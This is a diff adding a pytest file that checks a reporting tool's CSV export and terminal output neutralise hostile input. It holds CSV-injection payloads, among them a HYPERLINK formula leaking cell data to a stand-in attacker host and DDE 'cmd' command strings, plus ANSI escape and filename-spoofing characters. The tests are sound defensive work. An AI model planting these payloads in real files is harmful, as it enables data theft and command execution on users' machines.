@@ -1,0 +1,64 @@
+"""Hostile input, second pass: what the product writes cannot be turned against its readers."""
+
+from __future__ import annotations
+
+import csv
+import io
+import json
+from pathlib import Path
+
+import pytest
+
+from tests.support import run_in
+
+PAYLOADS = [
+    '=HYPERLINK("http://attacker.example/?leak="&A1,"Click")',
+    "+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+9)*cmd|' /C calc'!A0",
+]
+
+
+def _records(tmp_path: Path) -> Path:
+    incidents = tmp_path / "incidents"
+    incidents.mkdir()
+    actors = [{"name": payload, "figures": {"interactions": 100 + n}} for n, payload in enumerate(PAYLOADS)]
+    record = {"id": "csv-injection", "title": "T", "category": "c", "figures": {
+        "interactions": {"value": 1000, "unit": "=1+2"}}, "actors": actors}
+    (incidents / "r.json").write_text(json.dumps(record))
+    return incidents
+
+
+def test_metrics_csv_cells_never_start_a_formula(tmp_path: Path) -> None:
+    _records(tmp_path)
+    result = run_in(tmp_path, ["metrics", "incidents", "--format", "csv", "--by", "actor", "--no-cache"])
+    assert result.exit_code == 0, result.output
+    rows = list(csv.reader(io.StringIO(result.output)))
+    cells = [cell for row in rows for cell in row]
+    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
+    groups = {row[1] for row in rows[1:] if row[0] == "by_actor"}
+    # The names are kept, behind the quote that makes a spreadsheet show them as text.
+    assert groups == {"'" + payload for payload in PAYLOADS}
+    assert "'=1+2" in cells
+
+
+def test_a_cell_beginning_with_a_tab_or_carriage_return_is_quoted_too() -> None:
+    from reporter.tables import csv_cell
+
+    assert csv_cell("\t=1+1") == "'\t=1+1" and csv_cell("\r=1+1") == "'\r=1+1"
+    assert csv_cell("Alpha Corp") == "Alpha Corp" and csv_cell(5) == 5 and csv_cell(None) is None
+
+
+@pytest.mark.parametrize("key", ["\u001b[2J\u001b[31mred", "admin\u202e\u2066txt.exe", "zero\u200bwidth", "c1\u009bcsi"])
+def test_terminal_output_shows_controls_from_input_escaped(tmp_path: Path, key: str) -> None:
+    (tmp_path / "r.json").write_text(json.dumps({"id": "x", "title": "T", "category": "c", key: 1}))
+    result = run_in(tmp_path, ["validate", "r.json"])
+    assert result.exit_code == 1
+    assert not any(ch in result.output for ch in key if not ch.isalnum() and ch not in "[].")
+    escaped = "".join(ch if ch.isalnum() or ch in "[]." else
+                      (f"\\x{ord(ch):02x}" if ord(ch) < 0x100 else f"\\u{ord(ch):04x}") for ch in key)
+    assert f"unknown key '{escaped}'" in result.output
+    # JSON output is still JSON, and gives the key back exactly.
+    as_json = run_in(tmp_path, ["validate", "r.json", "--format", "json"])
+    assert not any(ch in as_json.output for ch in key if not ch.isalnum() and ch not in "[].")
+    assert key in json.loads(as_json.output)[0]["message"]
